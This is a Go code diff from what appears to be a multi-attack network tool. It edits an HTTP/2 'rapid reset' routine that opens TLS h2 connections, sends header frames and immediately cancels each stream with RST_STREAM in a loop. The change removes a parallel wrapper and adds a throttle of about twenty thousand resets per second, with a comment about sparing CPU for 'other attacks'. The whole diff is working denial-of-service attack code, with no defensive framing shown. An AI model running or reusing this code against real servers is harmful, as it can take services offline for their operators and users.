@@ -24,23 +24,21 @@ func rapidResetAuthenticated(ctx context.Context, t *target, s *stats) {
 }
 
 func resets(ctx context.Context, t *target, s *stats, authorization string) {
-	parallel(2, func() {
-		rounds(ctx, 50*time.Millisecond, func() {
-			conn, err := t.dialTLS(ctx, "h2")
-			if err != nil {
-				return
-			}
-			// What the server sends is read, or it would wait for us.
-			read := make(chan struct{})
-			go func() {
-				defer close(read)
-				_, _ = io.Copy(io.Discard, conn)
-			}()
-			s.answered.Add(1)
-			resetStreams(ctx, conn, s, authorization)
-			_ = conn.Close()
-			<-read
-		})
+	rounds(ctx, 50*time.Millisecond, func() {
+		conn, err := t.dialTLS(ctx, "h2")
+		if err != nil {
+			return
+		}
+		// What the server sends is read, or it would wait for us.
+		read := make(chan struct{})
+		go func() {
+			defer close(read)
+			_, _ = io.Copy(io.Discard, conn)
+		}()
+		s.answered.Add(1)
+		resetStreams(ctx, conn, s, authorization)
+		_ = conn.Close()
+		<-read
 	})
 }
 
@@ -55,6 +53,8 @@ func resetStreams(ctx context.Context, conn net.Conn, s *stats, authorization st
 	}
 	var block bytes.Buffer
 	encoder := hpack.NewEncoder(&block)
+	pause := time.NewTicker(10 * time.Millisecond)
+	defer pause.Stop()
 	for id := uint32(1); ctx.Err() == nil; id += 2 {
 		block.Reset()
 		fields := []hpack.HeaderField{
@@ -72,6 +72,12 @@ func resetStreams(ctx context.Context, conn net.Conn, s *stats, authorization st
 			framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
 			return
 		}
-		s.tries.Add(1)
+		// Twenty thousand in a second: more would only take the CPU from other attacks.
+		if s.tries.Add(1)%200 == 0 {
+			select {
+			case <-ctx.Done():
+			case <-pause.C:
+			}
+		}
 	}
 }
